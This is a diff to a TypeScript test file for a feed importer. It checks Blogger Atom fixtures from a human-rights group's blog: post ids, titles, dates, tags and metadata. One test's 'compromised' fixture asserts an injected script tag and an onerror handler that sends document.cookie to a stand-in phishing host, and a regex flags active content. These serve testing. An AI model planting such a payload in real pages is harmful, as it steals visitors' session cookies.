@@ -1,7 +1,7 @@
 // Origin sources against real loopback HTTP servers: the Blogger fixtures end to end, RSS and
 // Atom variants, and every kind of bad origin, each of which must fail with a message that names
 // the URL and the problem.
-import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { ServerResponse } from 'node:http';
@@ -11,7 +11,7 @@ import { SourceError } from '../../src/ports/source.ts';
 import { openSource } from '../../src/adapters/sources/open-source.ts';
 import { rfc822ToRfc3339 } from '../../src/adapters/sources/rss-source.ts';
 import { FEED_PATH, startBloggerServer, type BloggerServer, type RouteHandler } from '../helpers/blogger-server.ts';
-import { FIXTURES } from '../helpers/fixtures.ts';
+import { ALTERED_ID, BLOG_ID, CLEAN, COMPROMISED, FIXTURE_SETS, POST_ID_PREFIX } from '../helpers/fixtures.ts';
 
 const BLOG = 'http://gongminziyoulianmeng.blogspot.com';
 
@@ -75,7 +75,7 @@ describe('Blogger Atom feed (fixtures through a loopback Blogger)', () => {
   const progress: string[] = [];
 
   beforeAll(async () => {
-    server = await startBloggerServer(join(FIXTURES, 'blogger-clean'));
+    server = await startBloggerServer(CLEAN);
     clean = await openSource(`${server.base}${FEED_PATH}`, { onProgress: (m) => progress.push(m) }).read();
     await server.close();
   });
@@ -88,98 +88,146 @@ describe('Blogger Atom feed (fixtures through a loopback Blogger)', () => {
   });
 
   it('keeps ids, titles (entities decoded, Chinese intact) and feed order', () => {
-    const prefix = 'tag:blogger.com,1999:blog-4409253621830214786.post-';
     expect(clean.entries.map((e) => e.id)).toEqual(
       [
-        '827234106974359669',
-        '682039355054910363',
-        '333145010851531804',
-        '236340076292585797',
-        '768289740530337284',
-        '396720983377807096',
-        '499647288871121045',
-      ].map((n) => prefix + n),
+        '5318467019284737190',
+        '2209475183663051288',
+        '8830112765409913354',
+        '6057720394128850146',
+        '3471958802216639075',
+        '1186603350271924705',
+        '4620338571926604017',
+      ].map((n) => POST_ID_PREFIX + n),
     );
     expect(clean.entries.map((e) => e.title)).toEqual([
-      '27th Anniversary of Tiananmen Square Massacre',
-      '50th Anniversary of "the Great Cultural Revolution"',
-      'CCCR Remembers 67th Anniversary of "Universal Declaration of Human Rights"',
-      '朴日: 拆除中国网络防火墙',
-      '"Father and Daughter in Red China\'s Gulag" Book Release',
-      "Protest Chinese President's Visit to the United States in Washington DC",
-      '柳京男:抗议习近平主席访问美国',
+      'June Fourth Candlelight Vigil in Flushing',
+      'World Day Against Cyber Censorship: What Our Members Use',
+      'Human Rights Day: We Read "Article 19" Aloud',
+      '金明哲：为什么我们需要翻墙',
+      'Book Talk: "Letters My Father Could Not Send"',
+      'Rally for Detained Lawyers at the Chinese Consulate',
+      '朴英：致在押维权律师的一封信',
     ]);
   });
 
   it('keeps dates exactly as written, with their offset', () => {
     const first = clean.entries[0];
-    expect(first?.published).toBe('2016-06-08T21:03:00.000-07:00');
-    expect(first?.updated).toBe('2016-06-08T21:10:31.123-07:00');
-    expect(clean.entries.at(-1)?.published).toBe('2015-09-16T21:03:00.000-07:00');
+    expect(first?.published).toBe('2016-06-05T19:42:00.000-07:00');
+    expect(first?.updated).toBe('2016-06-06T08:15:27.441-07:00');
+    // Written in winter time: Blogger gives each date the blog's offset on that day.
+    expect(clean.entries[1]?.published).toBe('2016-03-12T10:30:00.000-08:00');
+    expect(clean.entries.at(-1)?.published).toBe('2015-09-14T21:03:00.000-07:00');
   });
 
   it('takes alternate links, authors, labels and language from the feed', () => {
     expect(clean.entries.map((e) => new URL(e.originUrl).pathname)).toEqual([
-      '/2016/06/27th-anniversary-of-tiananmen-square-mas.html',
-      '/2016/05/50th-anniversary-of-the-great-cultural-r.html',
-      '/2015/12/cccr-remembers-67th-anniversary-of-unive.html',
+      '/2016/06/june-fourth-candlelight-vigil-in-flushin.html',
+      '/2016/03/world-day-against-cyber-censorship-what.html',
+      '/2015/12/human-rights-day-we-read-article-19-alo.html',
       '/2015/10/blog-post.html',
-      '/2015/10/father-and-daughter-in-red-china-s-gulag.html',
-      '/2015/09/protest-chinese-president-s-visit-to-the.html',
+      '/2015/10/book-talk-letters-my-father-could-not.html',
+      '/2015/09/rally-for-detained-lawyers-at-chinese.html',
       '/2015/09/blog-post.html',
     ]);
     expect(clean.entries.every((e) => e.originUrl.startsWith(`${BLOG}/`))).toBe(true);
-    expect(clean.entries[0]?.authors).toEqual(['Coalition for Citizens Rights']);
-    // The fixture posts carry no labels and no xml:lang.
-    expect(clean.entries.every((e) => e.tags.length === 0 && e.language === undefined)).toBe(true);
+    expect(clean.entries.map((e) => e.authors)).toEqual([
+      ['Coalition for Citizens Rights'],
+      ['Coalition for Citizens Rights'],
+      ['Coalition for Citizens Rights'],
+      ['金明哲'],
+      ['Coalition for Citizens Rights'],
+      ['Coalition for Citizens Rights'],
+      ['Park Ying'],
+    ]);
+    // Labels, without Blogger's kind#post category; the fixture posts carry no xml:lang.
+    expect(clean.entries.map((e) => e.tags)).toEqual([
+      ['Events', 'June Fourth'],
+      ['Internet Freedom'],
+      ['Events', 'Human Rights'],
+      ['人权', '网络自由'],
+      ['Books'],
+      ['Events', 'Human Rights Lawyers'],
+      ['人权', '维权律师'],
+    ]);
+    expect(clean.entries.every((e) => e.language === undefined)).toBe(true);
   });
 
   it('passes the HTML on decoded exactly once, media links pointing at the served host', () => {
     const first = clean.entries[0]?.html ?? '';
-    expect(first.startsWith('<p>On June 7, 2016, a meeting')).toBe(true);
+    expect(first.startsWith('<p>On the evening of June 4, 2016, about sixty people')).toBe(true);
     // The feed has &amp;quot; and &amp;#x27;: HTML entities that must survive as entities.
-    expect(first).toContain('sponsored by &quot;Beijing Spring&quot;');
-    expect(first).toContain('China&#x27;s democracy');
-    const protest = clean.entries[5]?.html ?? '';
-    expect(protest).toContain(`${server.base}/media/s320/protest-1.png`);
-    expect(protest).not.toContain('{BASE}');
+    expect(first).toContain('organised by &quot;Coalition for Citizens Rights&quot;');
+    expect(first).toContain('the library&#x27;s neighbours');
+    const photos = clean.entries[5]?.html ?? '';
+    expect(photos).toContain(`${server.base}/media/s320/protest-1.png`);
+    expect(photos).not.toContain('{BASE}');
   });
 
   it('reads site metadata as plain text', () => {
-    expect(clean.meta.id).toBe('tag:blogger.com,1999:blog-4409253621830214786');
+    expect(clean.meta.id).toBe(BLOG_ID);
     expect(clean.meta.title).toBe('公民自由联盟 Coalition for Citizens Rights');
-    expect(clean.meta.subtitle.startsWith('Who We Are Coalition for Citizens Rights is an human rights organization')).toBe(true);
-    expect(clean.meta.subtitle).toContain('official site of "Coalition for Citizens Rights"');
+    expect(clean.meta.subtitle.startsWith('Coalition for Citizens Rights works for freedom of speech')).toBe(true);
+    expect(clean.meta.subtitle).toContain('the official site of "Coalition for Citizens Rights".');
     expect(clean.meta.originUrl).toBe(`${BLOG}/`);
     expect(clean.meta.language).toBe('zh');
   });
 
   it('passes the compromised post on unsanitized, with its new updated date', async () => {
-    const evil = await serve(join(FIXTURES, 'blogger-compromised'));
+    const evil = await serve(COMPROMISED);
     const snapshot = await openSource(`${evil.base}${FEED_PATH}`).read();
     expect(snapshot.entries).toHaveLength(7);
-    const altered = snapshot.entries.find((e) => e.id.endsWith('post-768289740530337284'));
-    expect(altered?.published).toBe('2015-10-07T21:03:00.000-07:00');
+    const altered = snapshot.entries.find((e) => e.id === ALTERED_ID);
+    expect(altered?.published).toBe('2015-10-03T16:05:00.000-07:00');
     expect(altered?.updated).toBe('2026-11-20T03:14:15.123-07:00');
-    expect(altered?.html).toContain('<script type="text/javascript" src="http://cdn-stats.example-analytics.net/ga.js"></script>');
-    expect(altered?.html).toContain(`onerror="document.location='http://evil.example/'"`);
+    expect(altered?.html).toContain('<script type="text/javascript" src="http://counter.example-stats.net/track.js"></script>');
+    expect(altered?.html).toContain(`onerror="this.src=&#39;http://phish.example/p.gif?c=&#39;+document.cookie"`);
     const untouched = snapshot.entries.filter((e) => e !== altered);
     expect(untouched.map((e) => e.html)).toEqual(
-      clean.entries.filter((e) => !e.id.endsWith('post-768289740530337284')).map((e) => e.html.replaceAll(server.base, evil.base)),
+      clean.entries.filter((e) => e.id !== ALTERED_ID).map((e) => e.html.replaceAll(server.base, evil.base)),
     );
   });
 
   it('reads a saved page from a local .xml file without following rel="next"', async () => {
-    const text = (await readFile(join(FIXTURES, 'blogger-clean/blogger/feed-page1.xml'), 'utf8')).replaceAll(
-      '{BASE}',
-      'http://127.0.0.1:9',
-    );
+    const text = (await readFile(join(CLEAN, 'blogger/feed-page1.xml'), 'utf8')).replaceAll('{BASE}', 'http://127.0.0.1:9');
     const file = join(scratch, 'saved-feed.xml');
     await writeFile(file, text);
     const snapshot = await openSource(file).read();
     expect(snapshot.entries).toHaveLength(4);
     expect(snapshot.location).toBe(file);
-    expect(snapshot.entries[3]?.title).toBe('朴日: 拆除中国网络防火墙');
+    expect(snapshot.entries[3]?.title).toBe('金明哲：为什么我们需要翻墙');
+  });
+});
+
+describe.each(FIXTURE_SETS)('every Blogger fixture set: $name', ({ clean, compromised }) => {
+  /** The count a Blogger feed declares, and the entries its pages hold. */
+  const declared = async (folder: string): Promise<{ total: number; entries: number }> => {
+    const root = join(folder, 'blogger');
+    const pages = (await readdir(root)).filter((f) => /^feed-page\d+\.xml$/.test(f));
+    const texts = await Promise.all(pages.map((f) => readFile(join(root, f), 'utf8')));
+    const total = Number(/<openSearch:totalResults>(\d+)</.exec(texts[0] ?? '')?.[1]);
+    return { total, entries: texts.reduce((n, t) => n + (t.match(/<entry>/g)?.length ?? 0), 0) };
+  };
+
+  it('reads every entry the feed declares, across all its pages', async () => {
+    const { total, entries } = await declared(clean);
+    expect(total).toBe(entries);
+    const server = await serve(clean);
+    const snapshot = await openSource(`${server.base}${FEED_PATH}`).read();
+    expect(snapshot.entries).toHaveLength(total);
+    expect(new Set(snapshot.entries.map((e) => e.id)).size).toBe(total);
+    for (const e of snapshot.entries) {
+      expect(e.html, e.id).not.toContain('{BASE}');
+      expect(Number.isNaN(Date.parse(e.updated)), e.id).toBe(false);
+    }
+  });
+
+  it('the compromised copy differs from the clean one only in entries that carry active content', async () => {
+    const [a, b] = await Promise.all([serve(clean), serve(compromised)]);
+    const before = await openSource(`${a.base}${FEED_PATH}`).read();
+    const after = await openSource(`${b.base}${FEED_PATH}`).read();
+    const changed = after.entries.filter((e) => before.entries.find((o) => o.id === e.id)?.html.replaceAll(a.base, b.base) !== e.html);
+    expect(changed.length).toBeGreaterThan(0);
+    for (const e of changed) expect(e.html, e.id).toMatch(/<script|<iframe|javascript:|\son\w+=/i);
   });
 });
 
